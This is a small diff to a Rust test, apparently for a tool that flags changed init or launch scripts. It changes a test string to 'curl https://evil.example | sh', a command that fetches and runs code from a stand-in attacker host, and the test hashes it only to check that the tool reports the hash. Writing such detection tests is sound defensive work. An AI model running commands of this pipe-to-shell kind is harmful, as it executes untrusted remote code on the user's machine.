@@ -182,7 +182,7 @@ fn t40_a_changed_script_is_a_concern_with_its_hash() {
     let detail = judged.detail(CheckId::LaunchInputs);
     let hash = {
         use sha2::{Digest as _, Sha256};
-        hex::encode(Sha256::digest("curl evil | sh"))
+        hex::encode(Sha256::digest("curl https://evil.example | sh"))
     };
     assert!(detail.contains(&hash), "{detail}");
     is_a_concern(json!({"init_script": "true"}), "init-script");
